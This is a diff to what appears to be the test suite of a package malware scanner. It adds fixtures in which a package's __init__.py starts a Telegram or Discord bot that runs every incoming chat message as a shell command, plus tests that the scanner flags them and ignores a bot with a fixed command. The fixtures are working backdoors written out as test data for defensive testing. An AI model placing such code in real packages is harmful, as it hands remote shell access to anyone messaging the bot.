@@ -965,6 +965,33 @@ def checkpoint_download() -> Archive:
     )})  # fmt: skip
 
 
+def telegram_shell_one_import() -> Archive:
+    return sd({"demo/__init__.py": lines(
+        "import subprocess, telebot",
+        "bot = telebot.TeleBot('123456:AAE-example')",
+        "",
+        "@bot.message_handler(func=lambda m: True)",
+        "def on_message(m):",
+        "    out = subprocess.run(m.text, shell=True, capture_output=True).stdout",
+        "    bot.reply_to(m, out)",
+        "",
+        "bot.infinity_polling()",
+    )})  # fmt: skip
+
+
+def discord_shell_one_import() -> Archive:
+    return sd({"demo/__init__.py": lines(
+        "import os, discord",
+        "client = discord.Client(intents=discord.Intents.all())",
+        "",
+        "@client.event",
+        "async def on_message(message):",
+        "    os.system(message.content)",
+        "",
+        "client.run('MTAx.example.token')",
+    )})  # fmt: skip
+
+
 #: sample, path, line, code, severity of the behaviour it must keep. The comment says what the
 #: packages layer reported before session 12 where it differed.
 CAUGHT: list[tuple[Callable[[], Archive], str, int, str, Severity]] = [
@@ -1035,6 +1062,8 @@ CAUGHT: list[tuple[Callable[[], Archive], str, int, str, Severity]] = [
     (keys_appended_helper, "demo-1.0/demo/telemetry.py", 9, "PKG002", C),  # was PKG007 high only
     (npm_shell_script, "package/scripts/pre.sh", 2, "PKG001", C),  # was medium (PKG014)
     (checkpoint_download, "demo-1.0/demo/hub.py", 5, "PKG003", H),  # was nothing
+    (telegram_shell_one_import, "demo-1.0/demo/__init__.py", 6, "PKG003", H),  # was low
+    (discord_shell_one_import, "demo-1.0/demo/__init__.py", 6, "PKG003", H),  # was low
 ]
 
 
@@ -1343,3 +1372,16 @@ def test_public_keys_and_build_logs_gathered_and_sent_are_not_secrets() -> None:
     )
     found = scan(sd({"demo/__init__.py": lib}))
     assert not [f for f in found if f.code == "PKG002"]
+
+
+def test_chat_bot_running_fixed_commands_is_not_remote_code() -> None:
+    lib = lines(
+        "import os, subprocess, telebot",
+        "bot = telebot.TeleBot(os.environ['BOT_TOKEN'])",
+        "",
+        "",
+        "@bot.message_handler(commands=['uptime'])",
+        "def uptime(m):",
+        "    bot.reply_to(m, subprocess.run(['uptime'], capture_output=True, text=True).stdout)",
+    )
+    quiet(sd({"demo/__init__.py": lib}), "PKG003")
